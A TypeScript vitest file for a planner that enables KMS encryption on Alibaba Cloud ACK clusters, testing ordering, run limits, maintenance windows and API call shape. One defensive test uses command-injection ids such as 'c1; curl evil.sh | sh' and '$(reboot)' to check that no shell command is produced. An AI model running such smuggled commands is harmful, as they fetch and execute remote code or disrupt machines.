import { describe, expect, it } from 'vitest';
import { type Finding, message } from '../../src/model/finding.ts';
import type { ReportedCluster } from '../../src/model/report.ts';
import { type PlanInput, planOf, readyOf, withinOrganization, worthReading } from '../../src/remediation/plan.ts';
import { aboutCluster, finding } from '../report/fixture-report.ts';
import { allowed, keyId, offCluster, paid, readingOf, remembered, reportWith } from './allowed.ts';

function off(cluster: ReportedCluster, since: string, more: Partial<Finding> = {}): Finding {
  return {
    ...finding(aboutCluster(cluster), message('encryption-off', {}), { checkId: 'ack-cluster-encryption-enabled' }),
    since,
    ...more,
  };
}

const one = offCluster(1, { name: 'one' });
const two = offCluster(2, { name: 'two' });
const three = offCluster(3, { name: 'three' });
const caching = message('synced-secrets-unencrypted', { addons: ['ack-secret-manager 0.5.8'], wasEncrypted: false });

function input(clusters: readonly ReportedCluster[], more: Partial<PlanInput> = {}): PlanInput {
  const base = allowed();
  return {
    ...base,
    report: reportWith(clusters, {
      findings: [
        paid,
        off(one, '2026-11-03T00:00:00.000Z'),
        off(two, '2026-11-01T00:00:00.000Z'),
        off(three, '2026-11-05T00:00:00.000Z'),
        off(three, '2026-11-05T00:00:00.000Z', {
          id: 'f-caching',
          checkId: 'ack-cluster-synced-secrets-encrypted',
          message: caching,
        }),
      ],
    }),
    settings: { ...base.settings, maxPerRun: 2, maxPercent: 100 },
    memory: { transitions: [], clusters: Object.fromEntries(clusters.map(({ id }) => [id, remembered])) },
    readings: new Map(clusters.map(({ id }) => [id, readingOf(id)])),
    pasts: new Map(clusters.map(({ id }) => [id, { is: 'never' }])),
    only: [],
    made: 0,
    organization: null,
    ...more,
  };
}

const all = [one, two, three];
const namesOf = (asked: PlanInput) => planOf(asked).changes.map(({ cluster, result }) => `${cluster.name} ${result}`);

describe('withinOrganization', () => {
  const both = { perRun: 5, byPercent: 5 };
  const given = input(all);
  const within = (elsewhere: number, limits = both) =>
    withinOrganization(planOf(given), { ...given, organization: { elsewhere, limits } });

  it.each([
    [0, ['passed', 'passed', 'blocked'], 2],
    [4, ['passed', 'blocked', 'blocked'], 2],
    [5, ['blocked', 'blocked', 'blocked'], 2],
  ])('leaves what %s changes of other accounts leave', (elsewhere, results, most) => {
    const plan = within(elsewhere);
    expect([plan.changes.map(({ result }) => result), plan.most]).toEqual([results, most]);
  });

  it('says the same as a plan that knew it from the beginning', () => {
    for (const elsewhere of [0, 1, 4, 5]) {
      const organization = { elsewhere, limits: { perRun: 5, byPercent: 4 } };
      expect(within(elsewhere, organization.limits)).toEqual(planOf({ ...given, organization }));
    }
  });
});

describe('planOf', () => {
  it('begins with what caches KMS secrets, then with what is off for longest, and makes as many as a run may', () => {
    expect(namesOf(input(all))).toEqual(['three passed', 'two passed', 'one blocked']);
  });

  it('leaves out what cannot be turned on', () => {
    const others = [
      offCluster(4, { spec: 'ack.standard' }),
      offCluster(5, { profile: 'Acs' }),
      offCluster(6, { state: 'deleting' }),
      offCluster(8, { encryption: { state: 'on', keyId: 'k' } }),
      offCluster(9, { encryption: { state: 'unknown', keyId: '' } }),
    ];
    expect(namesOf(input([...others, one]))).toEqual(['one passed']);
  });

  it('asks once when the next window opens, however many clusters there are', () => {
    const zoneReadsFor = (clusters: number) => {
      let reads = 0;
      const window = {
        days: ['saturday'] as const,
        from: '02:00',
        to: '04:00',
        get timeZone() {
          reads += 1;
          return 'Asia/Shanghai';
        },
      };
      const base = input(Array.from({ length: clusters }, (_, index) => offCluster(index + 10)));
      const { changes } = planOf({ ...base, settings: { ...base.settings, maintenanceWindows: [window] } });
      expect(changes).toHaveLength(clusters);
      expect(changes.every(({ result }) => result === 'blocked')).toBe(true);
      return reads;
    };
    expect(zoneReadsFor(1)).toBeGreaterThan(0);
    expect(zoneReadsFor(300)).toBe(zoneReadsFor(1));
  });

  it.each(['c1; curl evil.sh | sh', '$(reboot)', "c1' '", '-rf', 'c1\nreboot', ''])(
    'gives no command with the id %j, which a shell would take for more than a word',
    (id) => {
      const [change] = planOf(input([{ ...one, id }])).changes;
      expect(change?.rollback).toBe('');
    },
  );

  it('plans only what was named', () => {
    expect(namesOf(input(all, { only: [one.id] }))).toEqual(['one passed']);
  });

  it('counts what the run has made already', () => {
    expect(namesOf(input(all, { made: 1 }))).toEqual(['three passed', 'two blocked', 'one blocked']);
  });

  it('gives the place of a change that is stopped to the next one', () => {
    const readings = new Map(all.map(({ id }) => [id, readingOf(id)]));
    readings.set(
      three.id,
      readingOf(three.id, { tasks: { ok: true, value: [{ id: 'T', type: 't', state: 'running' }] } }),
    );
    expect(namesOf(input(all, { readings }))).toEqual(['three blocked', 'two passed', 'one passed']);
  });

  it('keeps the places where something stops the whole run', () => {
    const plan = planOf(input(all, { killSwitch: true }));
    expect(plan.changes.every(({ result }) => result === 'blocked')).toBe(true);
    expect(readyOf(plan)).toBe(2);
    expect(plan.most).toBe(2);
  });

  it('calls with KMS’s own id of the key, and never to disable', () => {
    const [change] = planOf(input([one])).changes;
    expect(change?.call).toEqual({
      operation: 'cs:UpdateKMSEncryption',
      regionId: 'cn-hangzhou',
      clusterId: one.id,
      body: { disable_encryption: false, kms_key_id: keyId },
    });
    expect(change?.resolves).toHaveLength(1);
  });

  it('asks to read only what nothing known stops', () => {
    const asked = input(all, { readings: new Map(), only: [] });
    const select = { ids: [one.id, two.id], tags: [], regions: [] };
    const plan = planOf({ ...asked, settings: { ...asked.settings, select } });
    expect(worthReading(plan).map(({ cluster }) => cluster.name)).toEqual(['two', 'one']);
    expect(plan.changes.map(({ call }) => call)).toEqual([null, null, null]);
  });
});
